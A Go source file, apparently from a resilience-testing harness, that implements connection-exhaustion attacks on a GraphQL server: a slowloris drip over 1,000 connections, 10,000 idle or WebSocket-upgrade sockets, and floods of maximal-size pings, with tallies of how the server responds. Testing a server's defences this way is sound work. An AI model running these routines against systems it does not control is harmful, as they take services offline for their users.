package main

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/coder/websocket"
)

// Attacks that hold many connections.

// slowly sends headers, or a body, a byte a second, from a thousand connections.
func (a *attackers) slowly(ctx context.Context) {
	const connections = 1000
	var group sync.WaitGroup
	for i := range connections {
		text := "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
		if i%2 == 0 {
			text += "Authorization: Bearer " + a.tokens[i%len(a.tokens)] + "\r\nContent-Length: 1000\r\n\r\n"
		}
		group.Go(func() {
			for ctx.Err() == nil {
				a.hold(ctx, text, time.Second)
			}
		})
	}
	group.Wait()
}

// sockets opens 10,000 connections: half of them are silent, half ask for a
// WebSocket and then say nothing.
func (a *attackers) sockets(ctx context.Context) {
	var group sync.WaitGroup
	for i := range 10_000 {
		text := ""
		if i%2 == 0 {
			text = "GET /graphql HTTP/1.1\r\nHost: " + a.addr + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\nAuthorization: Bearer " + a.tokens[i%len(a.tokens)] + "\r\n\r\n"
		}
		group.Go(func() {
			sleep(ctx, time.Duration(i)*200*time.Microsecond) // over two seconds
			for ctx.Err() == nil {
				a.hold(ctx, text, 0)
				sleep(ctx, 5*time.Second) // as clients do that come again
			}
		})
	}
	group.Wait()
}

// pings opens ten sockets of each client and sends pings as large as they may be, without a pause.
func (a *attackers) pings(ctx context.Context) {
	ping := []byte(`{"type":"ping","payload":{"a":"` + strings.Repeat("a", 1900) + `"}}`)
	var group sync.WaitGroup
	for i := range 10 * len(a.tokens) {
		group.Go(func() {
			for ctx.Err() == nil {
				a.count("socket closed with " + a.ping(ctx, a.tokens[i%len(a.tokens)], ping).String())
				sleep(ctx, 100*time.Millisecond)
			}
		})
	}
	group.Wait()
}

// ping sends a message over a socket until that is closed, and returns the code of the close.
func (a *attackers) ping(ctx context.Context, token string, message []byte) websocket.StatusCode {
	//nolint:bodyclose // the answer that opens a socket has none
	conn, _, err := websocket.Dial(ctx, "ws://"+a.addr+"/graphql", &websocket.DialOptions{
		Subprotocols: []string{"graphql-transport-ws"}, HTTPHeader: http.Header{"Authorization": {"Bearer " + token}},
	})
	if err != nil {
		return websocket.CloseStatus(err)
	}
	defer func() { _ = conn.CloseNow() }()
	closed := make(chan websocket.StatusCode, 1)
	go func() {
		for {
			if _, _, err := conn.Read(ctx); err != nil {
				closed <- websocket.CloseStatus(err)
				return
			}
		}
	}()
	for err == nil {
		err = conn.Write(ctx, websocket.MessageText, message)
	}
	return <-closed
}

// hold sends text, then a byte at a time, until the server has had enough.
func (a *attackers) hold(ctx context.Context, text string, every time.Duration) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.addr)
	if err != nil {
		a.count("not connected")
		return
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, text); err != nil {
		a.count("cut off")
		return
	}
	var writer sync.WaitGroup
	defer writer.Wait()
	if every > 0 {
		writer.Go(func() {
			for _, err := io.WriteString(conn, "x"); err == nil && ctx.Err() == nil; _, err = io.WriteString(conn, "x") {
				sleep(ctx, every)
			}
		})
	}
	first := make([]byte, 12) // HTTP/1.1 408
	n, err := io.ReadFull(conn, first)
	if err == nil && string(first[9:12]) == "101" {
		_, _ = io.Copy(io.Discard, conn)
		if ctx.Err() == nil {
			a.count("socket closed")
		}
		_ = conn.Close()
		return
	}
	_ = conn.Close()
	switch {
	case ctx.Err() != nil:
	case n == len(first):
		a.count(string(first[9:12]))
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF), err != nil:
		a.count("cut off")
	}
}
